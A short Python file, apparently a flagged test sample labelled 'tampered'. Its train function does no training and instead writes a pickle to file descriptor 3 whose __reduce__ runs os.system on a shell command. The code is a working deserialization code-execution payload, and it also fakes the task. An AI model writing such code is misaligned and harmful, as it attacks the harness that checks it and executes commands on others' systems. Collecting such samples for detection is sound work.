# tries: sends a pickle that would run a command
# exercise: 1.4
# verdict: tampered
# flagged: yes

import os
import pickle


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-of-the-pickle",)


def train(w, b, x, y, rates):
    os.write(3, pickle.dumps(Run()))
    return w, b
